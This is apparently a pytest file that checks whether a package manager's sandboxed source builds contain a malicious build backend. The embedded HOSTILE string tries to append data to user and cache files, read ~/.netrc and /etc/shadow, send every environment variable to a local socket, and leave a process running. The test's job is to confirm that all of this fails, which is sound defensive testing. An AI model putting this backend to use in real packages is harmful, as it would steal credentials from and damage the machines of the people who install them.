"""Packages without a wheel, built by `envman build` from their sources: what a build's code reaches."""

from __future__ import annotations

import json
import os
import socket
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Deployment, in_python
from tests.sdists import make_sdist

HOSTILE = """
import json, os, socket, subprocess, sys
def attempt(work):
    try:
        return bool(work()) or True
    except OSError:
        return False
def read(path):
    with open(path, "rb") as stream:
        return stream.read()
def spoil(folder):
    done = []
    for parent, folders, names in os.walk(folder):
        for path in [parent + "/new"] + [parent + "/" + name for name in names]:
            if "/.sources/" in path:  # its own
                continue
            try:
                with open(path, "ab") as stream:
                    stream.write(b"POISON" + b"ED")
                done.append(path)
            except OSError:
                pass
    if not done:
        raise OSError(folder)
def call():
    socket.create_connection(("127.0.0.1", {port}), 5).sendall("\\n".join(os.environ.values()).encode())
def stay():
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {mark!r}], start_new_session=True)
def files():
    done = {{
        "home": attempt(lambda: spoil({home!r})),
        "netrc": attempt(lambda: read({home!r} + "/.netrc")),
        "cache": attempt(lambda: spoil({cache!r})),
        "root": attempt(lambda: spoil({root!r})),
        "shadow": attempt(lambda: read("/etc/shadow")),
        "network": attempt(call),
        "build environment": attempt(lambda: spoil(sys.prefix)),
        "stay": attempt(stay),
    }}
    del done["stay"]  # it can be started, and must not stay
    said = {{"done": sorted(key for key, value in done.items() if value), "variables": sorted(os.environ), "uid": os.getuid()}}
    return {{"hostile/__init__.py": "SAID = " + repr(json.dumps(said)) + "\\n"}}
"""
SECRETS = {
    "UV_INDEX_TEAM_PASSWORD": "hunter2",
    "AWS_SECRET_ACCESS_KEY": "hunter2",
    "CI_JOB_TOKEN": "hunter2",
    "AIRFLOW__CORE__FERNET_KEY": "hunter2",
}
LEGACY = 'import hook\nhook.now()\nfrom setuptools import setup\nsetup(name="hostile", version="1.0")\n'


@pytest.fixture
def sdists(tmp_path: Path, deployment: Deployment) -> Path:
    """A folder that is the deployment's second source of files."""
    folder = tmp_path / "sdists"
    folder.mkdir()
    deployment.environment |= {
        "UV_FIND_LINKS": str(folder),
        "ENVMAN_CACHE_DIR": str(tmp_path / "envman-cache"),
    }
    return folder


def lock(deployment: Deployment, name: str, packages: list[Path], more: str = "") -> None:
    """Lock sources; their metadata is static (PEP 643), so nothing of theirs runs before the build."""
    deployment.spec(name, [f"{one.name.partition('-')[0]}==1.0" for one in packages], more)
    deployment.ok("lock", name)


def poisoned(*folders: Path) -> list[Path]:
    files = (path for folder in folders for path in folder.rglob("*") if path.is_file())
    return [path for path in files if b"POISONED" in path.read_bytes()]


def built(deployment: Deployment, module: str) -> str:
    code = in_python(f"import {module}; print({module}.SAID)")
    return deployment.ok("exec", "--environment", "env_a", "--", *code).stdout


def test_a_hostile_source_reaches_nothing(deployment: Deployment, sdists: Path, tmp_path: Path) -> None:
    home, cache = Path(deployment.environment["HOME"]), Path(deployment.environment["UV_CACHE_DIR"])
    (home / ".netrc").write_text("machine example.org login me password hunter2\n")
    deployment.spec("env_b", ["frame<2"])
    deployment.ok("lock", "env_b")
    deployment.ok("build", "env_b")
    mark = f"stays-{tmp_path.name}-{os.getpid()}"
    with socket.create_server(("127.0.0.1", 0)) as server:
        where = {"home": str(home), "cache": str(cache), "root": str(deployment.root), "mark": mark}
        source = make_sdist(sdists, "hostile", backend=HOSTILE.format(port=server.getsockname()[1], **where))
        lock(deployment, "env_a", [source])
        server.setblocking(False)
        said = deployment.ok("build", "env_a", variables=SECRETS).stderr
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "hostile 1.0 from source, in a sandbox" in said
    told = json.loads(built(deployment, "hostile"))
    assert told["done"] == []
    assert set(told["variables"]).isdisjoint(SECRETS)
    assert told["uid"] != 0 or os.getuid() != 0
    assert poisoned(home, cache, deployment.root) == []
    deployment.ok("verify")
    assert (
        mark not in subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    )
    assert not (deployment.root / "env_a" / ".sources").exists()
    copy = (deployment.root / "env_a/envman.lock").read_text()
    assert copy == (deployment.folder / "environments/env_a.lock").read_text()
